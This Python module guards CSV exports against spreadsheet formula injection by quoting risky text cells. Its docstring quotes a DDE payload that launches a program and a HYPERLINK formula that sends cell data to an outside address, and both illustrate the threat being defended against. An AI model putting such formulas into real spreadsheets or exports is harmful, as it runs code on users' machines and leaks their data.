"""Text cells a spreadsheet will not run as formulas (CSV injection, as OWASP describes it).

Excel, LibreOffice and Google Sheets treat a cell that starts with "=", "+", "-" or "@" as a formula, and a
formula can call other programs (DDE: `=cmd|' /C calc'!A0`) or send the sheet's data away
(`=HYPERLINK("http://…?"&A1)`). Every CSV we write puts its text cells through `formula_safe`, which puts a
single quote in front of a risky cell (OWASP's advice): spreadsheets then show the text as typed.

Risky: a cell starting with a tab, carriage return or line feed; or whose first visible character, after
spaces and invisible characters (zero-width spaces, BOM), is "=", "+", "-", "@" or one of their full-width
and small forms ("＝", "＋", "－", "＠", "﹦", "﹢", "﹣") or a Unicode minus or dash.

Left as they are: numbers (ints and floats are not text: a rating of 0 stays a number), empty cells, and a
lone "-" (the usual mark for "none"; one character computes nothing). A negative number written as text
("-3") gets the quote like any other text starting with "-".
"""

from __future__ import annotations

import unicodedata
from typing import Any

from backend.text.normalize import nfkc

_TRIGGERS = frozenset("=+-@")
_MINUS_LIKE = frozenset("\u2010\u2011\u2012\u2013\u2014\u2015\u2212")  # hyphens, dashes, the minus sign
_CONTROL_START = frozenset("\t\r\n")


def _first_visible(text: str) -> str:
    for ch in text:
        if not (ch.isspace() or unicodedata.category(ch) == "Cf"):
            return ch
    return ""


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (see the module docstring)."""
    if not text or text == "-":
        return False
    if text[0] in _CONTROL_START:
        return True
    first = _first_visible(text)
    return bool(first) and (first in _MINUS_LIKE or nfkc(first)[:1] in _TRIGGERS)


def formula_safe(value: Any) -> Any:
    """`value` with a single quote in front when it is text a spreadsheet could run as a formula; anything
    else (numbers, None, ordinary text) unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value
